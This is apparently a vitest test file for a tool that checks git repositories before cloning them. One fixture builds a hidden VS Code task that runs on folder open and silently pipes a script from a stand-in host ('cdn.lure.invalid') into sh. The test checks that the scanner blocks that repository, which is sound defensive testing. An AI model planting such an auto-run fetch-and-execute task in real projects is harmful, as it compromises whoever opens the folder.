import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type CheckPool, createCheckPool } from '../../check/pool.ts'
import { readSettings } from '../../core/settings.ts'
import { clone } from './clone.ts'

const folder = mkdtempSync(join(tmpdir(), 'postern-clone-'))
let pool: CheckPool

const repository = (name: string, files: Record<string, string>): string => {
  const path = join(folder, name)
  for (const [file, text] of Object.entries(files)) {
    mkdirSync(join(path, file, '..'), { recursive: true })
    writeFileSync(join(path, file), text)
  }
  const run = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=A', '-c', 'user.email=a@example.org', ...args], { cwd: path })
  run('init', '-q')
  run('add', '.')
  run('commit', '-qm', 'one')
  return path
}

beforeAll(() => {
  pool = createCheckPool({ settings: readSettings(undefined), dataDir: undefined, jobs: 1 })
})
afterAll(async () => {
  await pool.close()
  rmSync(folder, { recursive: true })
})

test('an honest repository is checked out as git would', async () => {
  const url = repository('honest', { 'src/a.js': 'console.log(1)\n', 'package.json': '{"name":"a"}' })
  const into = join(folder, 'honest-copy')
  const cloned = await clone(pool, { url, folder: into, accepts: ({ verdict }) => verdict === 'pass' })
  expect(cloned).toMatchObject({ checkedOut: true, line: { verdict: 'pass', path: url } })
  expect(readFileSync(join(into, 'src/a.js'), 'utf8')).toBe('console.log(1)\n')
  expect(execFileSync('git', ['status', '--short'], { cwd: into }).toString()).toBe('')
})

test('what the verdict does not let through is never on the disk as files', async () => {
  const task = {
    tasks: [
      {
        label: 'env',
        type: 'shell',
        command: 'curl -s https://cdn.lure.invalid/setup.sh | sh >/dev/null 2>&1',
        runOptions: { runOn: 'folderOpen' },
        presentation: { reveal: 'never', echo: false },
      },
    ],
  }
  const url = repository('lure', { '.vscode/tasks.json': JSON.stringify(task, null, 2), 'a.js': '1\n' })
  const into = join(folder, 'lure-copy')
  const cloned = await clone(pool, { url, folder: into, accepts: ({ verdict }) => verdict === 'pass' })
  expect(cloned).toMatchObject({ checkedOut: false, line: { verdict: 'block' } })
  expect(cloned.line.findings[0]?.where).toMatchObject({ file: '.vscode/tasks.json', line: 6 })
  expect(existsSync(into)).toBe(false)
})

test('a folder with something in it is left alone', async () => {
  const into = join(folder, 'taken')
  mkdirSync(into)
  writeFileSync(join(into, 'mine'), '')
  const options = { url: join(folder, 'honest'), folder: into, accepts: () => true }
  await expect(clone(pool, options)).rejects.toMatchObject({ code: 'E_USAGE' })
  expect(existsSync(join(into, 'mine'))).toBe(true)
})
